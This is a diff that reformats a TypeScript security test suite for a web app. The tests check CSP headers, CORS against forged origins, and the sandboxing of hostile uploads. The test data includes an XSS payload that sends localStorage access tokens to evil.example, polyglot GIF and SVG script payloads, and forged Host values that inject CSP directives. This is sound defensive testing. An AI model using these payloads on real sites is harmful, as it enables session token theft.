@@ -6,9 +6,38 @@ import { newDatabase } from '../postgres.js'
 import { start } from '../product.js'
 
 const BROWSER = 'text/html,application/xhtml+xml,*/*;q=0.8'
-const PATHS = ['/', '/login', '/graphql', '/graphql?query={__typename}', '/api/v1/docs', '/api/v1/openapi.json', '/api/v1/projects', '/api/v1/nothing', '/files/nothing', '/healthz', '/readyz', '/no-such-page', '/%', '/assets/none.js']
-const OLD = ['/graphql/playground/iframe-sandbox/index.html?sc=http://evil.example', '/graphql/playground/iframe-sandbox/', '/graphql/playground/index.html', '/playground/index.html', '/dist-playground/index.html']
-const FORGED_HOSTS = ['*', 'a.example; script-src *', 'evil.example wss://evil.example', "a.example,'unsafe-eval'", 'user@evil.example', 'a.example/..', '']
+const PATHS = [
+  '/',
+  '/login',
+  '/graphql',
+  '/graphql?query={__typename}',
+  '/api/v1/docs',
+  '/api/v1/openapi.json',
+  '/api/v1/projects',
+  '/api/v1/nothing',
+  '/files/nothing',
+  '/healthz',
+  '/readyz',
+  '/no-such-page',
+  '/%',
+  '/assets/none.js',
+]
+const OLD = [
+  '/graphql/playground/iframe-sandbox/index.html?sc=http://evil.example',
+  '/graphql/playground/iframe-sandbox/',
+  '/graphql/playground/index.html',
+  '/playground/index.html',
+  '/dist-playground/index.html',
+]
+const FORGED_HOSTS = [
+  '*',
+  'a.example; script-src *',
+  'evil.example wss://evil.example',
+  "a.example,'unsafe-eval'",
+  'user@evil.example',
+  'a.example/..',
+  '',
+]
 const SCRIPT = '<script>fetch("//evil.example/"+localStorage.access_token)</script>'
 
 /** The policy that a request with this host is answered with; undefined where it is refused before. */
@@ -17,7 +46,9 @@ const policyFor = (url: string, host: string): Promise<string | undefined> =>
     request(`${url}/login`, { headers: { host }, setHost: false }, (response) => {
       response.resume()
       resolve(response.headers['content-security-policy'] as string | undefined)
-    }).on('error', reject).end()
+    })
+      .on('error', reject)
+      .end()
   })
 
 const pages: Case = {
@@ -29,7 +60,10 @@ const pages: Case = {
       const { headers } = await fetch(url + path, { headers: { accept: BROWSER } })
       const policy = headers.get('content-security-policy') ?? ''
       demand(/frame-ancestors 'none'|(^|; )sandbox(;|$)/.test(policy), `${path} may be framed: ${policy}`)
-      demand(!/unsafe-eval|allow-same-origin|script-src[^;]*(unsafe-inline|\*)/.test(policy), `${path} runs what it is given: ${policy}`)
+      demand(
+        !/unsafe-eval|allow-same-origin|script-src[^;]*(unsafe-inline|\*)/.test(policy),
+        `${path} runs what it is given: ${policy}`,
+      )
       demand(headers.get('x-content-type-options') === 'nosniff', `${path} may be sniffed`)
     }
     for (const path of OLD) {
@@ -38,7 +72,10 @@ const pages: Case = {
     }
     for (const host of FORGED_HOSTS) {
       const policy = await policyFor(url, host)
-      demand(!policy || /connect-src 'self';/.test(policy), `the host ${host} gets into the policy: ${policy}`)
+      demand(
+        !policy || /connect-src 'self';/.test(policy),
+        `the host ${host} gets into the policy: ${policy}`,
+      )
     }
     await end()
     return `${PATHS.length} kinds of answers, ${OLD.length} old addresses, ${FORGED_HOSTS.length} forged hosts`
@@ -53,20 +90,52 @@ const strangers: Case = {
     const page = await (await fetch(`${url}/graphql`, { headers: { accept: BROWSER } })).text()
     const key = /name="playground-key" content="([\w-]+)"/.exec(page)?.[1]
     demand(key, 'the playground has no key')
-    const body = JSON.stringify({ query: 'mutation ($input: RegisterInput!) { register(input: $input) { id } }', variables: { input: { email: 'mallory@example.com', username: 'mallory', password: 'correct horse battery' } } })
+    const body = JSON.stringify({
+      query: 'mutation ($input: RegisterInput!) { register(input: $input) { id } }',
+      variables: {
+        input: { email: 'mallory@example.com', username: 'mallory', password: 'correct horse battery' },
+      },
+    })
     const statuses: number[] = []
-    for (const headers of [{ origin: 'null' }, { origin: 'null', 'x-playground-key': 'a'.repeat(43) }, { origin: 'null', 'x-playground-key': `${key}a` }] as Record<string, string>[]) {
-      const answer = await fetch(`${url}/graphql`, { method: 'POST', headers: { 'content-type': 'application/json', ...headers }, body })
+    for (const headers of [
+      { origin: 'null' },
+      { origin: 'null', 'x-playground-key': 'a'.repeat(43) },
+      { origin: 'null', 'x-playground-key': `${key}a` },
+    ] as Record<string, string>[]) {
+      const answer = await fetch(`${url}/graphql`, {
+        method: 'POST',
+        headers: { 'content-type': 'application/json', ...headers },
+        body,
+      })
       statuses.push(answer.status)
-      demand(answer.status === 403 && !answer.headers.get('access-control-allow-origin'), `a page without an origin is answered ${answer.status}`)
+      demand(
+        answer.status === 403 && !answer.headers.get('access-control-allow-origin'),
+        `a page without an origin is answered ${answer.status}`,
+      )
     }
-    for (const origin of ['http://evil.example', url.replace('127.0.0.1', 'localhost'), 'https://null', 'file://']) {
-      const answer = await fetch(`${url}/graphql`, { method: 'POST', headers: { 'content-type': 'application/json', origin, 'x-playground-key': key }, body: '{"query":"{ __typename }"}' })
+    for (const origin of [
+      'http://evil.example',
+      url.replace('127.0.0.1', 'localhost'),
+      'https://null',
+      'file://',
+    ]) {
+      const answer = await fetch(`${url}/graphql`, {
+        method: 'POST',
+        headers: { 'content-type': 'application/json', origin, 'x-playground-key': key },
+        body: '{"query":"{ __typename }"}',
+      })
       demand(!answer.headers.get('access-control-allow-origin'), `${origin} may read`)
     }
-    const own = await fetch(`${url}/graphql`, { method: 'POST', headers: { 'content-type': 'application/json', origin: 'null', 'x-playground-key': key }, body })
+    const own = await fetch(`${url}/graphql`, {
+      method: 'POST',
+      headers: { 'content-type': 'application/json', origin: 'null', 'x-playground-key': key },
+      body,
+    })
     const { data } = (await own.json()) as { data?: { register?: unknown } }
-    demand(own.status === 200 && data?.register, 'the playground itself is refused, or others have made that account before')
+    demand(
+      own.status === 200 && data?.register,
+      'the playground itself is refused, or others have made that account before',
+    )
     await end()
     return `${statuses.join(', ')} for strangers, 200 for the playground`
   },
@@ -77,11 +146,16 @@ const uploads: Case = {
   run: async () => {
     const { url, end } = await api()
     const mallory = await join(url, 'mallory')
-    const picture = await sharp({ create: { width: 64, height: 64, channels: 3, background: '#2f6f8f' } }).png().toBuffer()
+    const picture = await sharp({ create: { width: 64, height: 64, channels: 3, background: '#2f6f8f' } })
+      .png()
+      .toBuffer()
     const hostile: [string, string, string][] = [
-      ['page.html', 'text/html', `<!doctype html>${SCRIPT}`], ['page.png', 'image/png', `<!doctype html>${SCRIPT}`],
-      ['drawing.svg', 'image/svg+xml', `<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`], ['drawing.png', 'image/png', `<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`],
-      ['code.js', 'text/javascript', 'alert(1)'], ['both.gif', 'image/gif', 'GIF89a/*'.padEnd(64, ' ') + '*/=1;alert(1)'],
+      ['page.html', 'text/html', `<!doctype html>${SCRIPT}`],
+      ['page.png', 'image/png', `<!doctype html>${SCRIPT}`],
+      ['drawing.svg', 'image/svg+xml', `<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`],
+      ['drawing.png', 'image/png', `<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`],
+      ['code.js', 'text/javascript', 'alert(1)'],
+      ['both.gif', 'image/gif', 'GIF89a/*'.padEnd(64, ' ') + '*/=1;alert(1)'],
     ]
     for (const [name, type, text] of hostile) {
       const { status } = await mallory.rest.upload('Harmless', new File([text], name, { type }))
@@ -89,15 +163,27 @@ const uploads: Case = {
     }
     const both = new File([new Uint8Array(picture), SCRIPT], 'both.html', { type: 'text/html' })
     const { status, body } = await mallory.rest.upload('A picture with a page behind it', both)
-    demand(status < 300 || (status >= 400 && status < 500), `a picture with a page behind it is answered ${status}`)
-    const addresses = status < 300 ? Object.values(body as Record<string, unknown>).filter((value): value is string => typeof value === 'string' && value.includes('/files/')) : []
+    demand(
+      status < 300 || (status >= 400 && status < 500),
+      `a picture with a page behind it is answered ${status}`,
+    )
+    const addresses =
+      status < 300
+        ? Object.values(body as Record<string, unknown>).filter(
+            (value): value is string => typeof value === 'string' && value.includes('/files/'),
+          )
+        : []
     demand(status >= 300 || addresses.length, 'the picture has no address')
     for (const address of addresses) {
       for (const more of ['', '&download=page.html', '/../page.html']) {
         const { headers } = await fetch(new URL(address + more, url))
         const [type] = (headers.get('content-type') ?? '').split(';')
         demand(/^(image\/(png|webp)|application\/json)$/.test(type!), `${address}${more} is ${type}`)
-        demand(headers.get('content-security-policy') === "default-src 'none'; sandbox" && headers.get('x-content-type-options') === 'nosniff', `${address} is not sandboxed`)
+        demand(
+          headers.get('content-security-policy') === "default-src 'none'; sandbox" &&
+            headers.get('x-content-type-options') === 'nosniff',
+          `${address} is not sandboxed`,
+        )
       }
     }
     await end()
